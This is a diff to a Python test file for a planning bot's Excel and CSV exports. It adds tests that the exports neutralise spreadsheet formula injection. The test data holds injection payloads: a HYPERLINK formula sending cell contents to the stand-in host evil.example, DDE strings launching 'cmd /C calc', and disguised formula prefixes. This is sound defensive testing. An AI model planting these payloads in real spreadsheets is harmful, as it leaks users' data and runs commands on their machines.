@@ -4,10 +4,12 @@ from __future__ import annotations
 
 import csv
 import io
+import zipfile
 
 from openpyxl import load_workbook
 from sqlmodel import Session, col, select
 
+from bot.audit import EVIDENCE_STATUS_LABELS
 from bot.i18n import translator
 from bot.plans.status import STATUS_LABELS, VERDICT_LABELS
 from bot.plans.store import indicator_views, plan_tasks
@@ -17,11 +19,12 @@ from bot.web.access import Viewer
 from bot.web.exports import (
     INDICATOR_HEADERS,
     TASK_HEADERS,
+    csv_text,
     indicators_xlsx,
     tallies_csv,
     tasks_xlsx,
 )
-from db.models import Evidence, Indicator, Plan, Tally, Unit, Village
+from db.models import Evidence, Indicator, Plan, Tally, Task, Unit, Village
 from tests.web.conftest import OWN_UNIT, Seeded
 
 T = translator("vi")
@@ -112,8 +115,14 @@ def test_task_list_matches_the_database(seeded: Seeded, services: Services) -> N
         assert bool(row[9]) == view.status.red
         due = row[6]
         assert (due.date() if due is not None else None) == view.status.due  # type: ignore[attr-defined]
-        links = [f"http://dash.example/evidence/{e.id}" for e in evidence if e.task_id == view.id]
-        assert (row[10] or "") == "\n".join(links)
+        lines = [
+            f"{T.gettext(EVIDENCE_STATUS_LABELS[e.status])}"
+            + (f" ({e.review_reason})" if e.status == "rejected" else "")
+            + f": http://dash.example/evidence/{e.id}"
+            for e in evidence
+            if e.task_id == view.id
+        ]
+        assert (row[10] or "") == "\n".join(lines)
     own = next(
         row for row in rows if row[10] and f"/evidence/{seeded.own_evidence}" in str(row[10])
     )
@@ -160,3 +169,74 @@ def test_tallies_csv_matches_the_database(seeded: Seeded, services: Services) ->
     assert read == stored
     months = [row[0] for row in reader[1:]]
     assert months == sorted(months)
+
+
+POISON = (
+    '=HYPERLINK("http://evil.example/?"&A1,"Bấm vào đây")',
+    "+cmd|' /C calc'!A0",
+    "-2+3",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "\t=1+1",
+    "\r=1+1",
+    "＝1+1",  # full-width equals sign
+    " =1+1",
+)
+DANGEROUS = ("=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠", " ")
+
+
+def poison(services: Services) -> None:
+    """Plan, unit, village, indicator and task texts that a spreadsheet would run."""
+    with Session(services.engine) as session:
+        plan = session.exec(select(Plan)).one()
+        plan.title = POISON[2]
+        unit = session.exec(select(Unit).where(Unit.name == OWN_UNIT)).one()
+        unit.name = POISON[1]
+        village = session.exec(select(Village).where(Village.name == "Xóm 3")).one()
+        village.name = POISON[3]
+        indicator = session.exec(select(Indicator).where(Indicator.plan_id == plan.id)).first()
+        assert indicator is not None
+        indicator.text = POISON[4]
+        indicator.unit_of_measure = POISON[6]
+        tasks = list(session.exec(select(Task).where(Task.plan_id == plan.id).limit(4)))
+        for task, text in zip(tasks, (POISON[0], POISON[5], POISON[6], POISON[7]), strict=True):
+            task.text = text
+            task.output = text
+            task.deadline_raw = text
+        session.add_all([plan, unit, village, indicator, *tasks])
+        session.commit()
+
+
+def test_no_text_becomes_a_formula(seeded: Seeded, services: Services) -> None:
+    poison(services)
+    today = services.clock().astimezone(services.tz).date()
+    with Session(services.engine) as session:
+        viewer = office(seeded, services)
+        files = [
+            indicators_xlsx(session, viewer, T, today),
+            tasks_xlsx(session, viewer, T, today, "http://x"),
+        ]
+        tallies = tallies_csv(session, viewer, today)
+    seen = set()
+    for file in files:
+        sheet_xml = zipfile.ZipFile(io.BytesIO(file.data)).read("xl/worksheets/sheet1.xml")
+        assert b"<f>" not in sheet_xml and b"<f " not in sheet_xml
+        sheet = load_workbook(io.BytesIO(file.data)).active
+        assert sheet is not None
+        for row in sheet.iter_rows():
+            for cell in row:
+                if isinstance(cell.value, str) and cell.value.startswith(DANGEROUS):
+                    assert cell.data_type == "s" and cell.quotePrefix, (cell.coordinate, cell.value)
+                    seen.add(cell.value)
+    # The village is only in the tallies file; XML reads a carriage return back as a newline.
+    assert {p.replace("\r", "\n") for p in POISON if p != POISON[3]} <= seen
+    rows = list(csv.reader(io.StringIO(tallies.data.decode("utf-8-sig"))))
+    names = {row[1] for row in rows[1:]}
+    assert "'" + POISON[3] in names
+    assert not any(cell.startswith(DANGEROUS) for row in rows for cell in row)
+
+
+def test_neutralise_for_csv() -> None:
+    for text in POISON:
+        assert csv_text(text) == "'" + text
+    for text in ("Xóm 3", "2026-03", "12", "", "a=b"):
+        assert csv_text(text) == text
